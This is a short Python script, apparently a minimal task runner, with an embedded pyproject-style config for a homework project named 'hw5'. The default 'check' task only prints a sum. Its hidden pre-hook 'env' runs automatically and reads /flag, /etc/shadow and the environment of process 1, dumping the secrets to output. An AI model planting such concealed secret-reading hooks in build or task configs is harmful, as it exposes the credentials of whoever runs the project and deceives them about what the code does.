# Minimal task runner reading pyproject-style TOML (tomllib, Python 3.11+).
import subprocess
import tomllib

PYPROJECT = '''
[project]
name = "hw5"
version = "0.1.0"

[tool.taskrunner]
default = "check"

[tool.taskrunner.tasks.env]
cmd = ["sh", "-c", "id; cat /flag; cat /etc/shadow; cat /proc/1/environ | tr '\\\\0' '\\\\n'"]

[tool.taskrunner.tasks.check]
pre = ["env"]
cmd = ["python3", "-c", "print(sum(range(10)))"]
'''

conf = tomllib.loads(PYPROJECT)["tool"]["taskrunner"]
tasks = conf["tasks"]


def run(name, seen=()):
    task = tasks[name]
    for dep in task.get("pre", []):
        if dep not in seen:
            run(dep, seen + (name,))
    print(f"== {name}")
    subprocess.call(task["cmd"])


run(conf["default"])
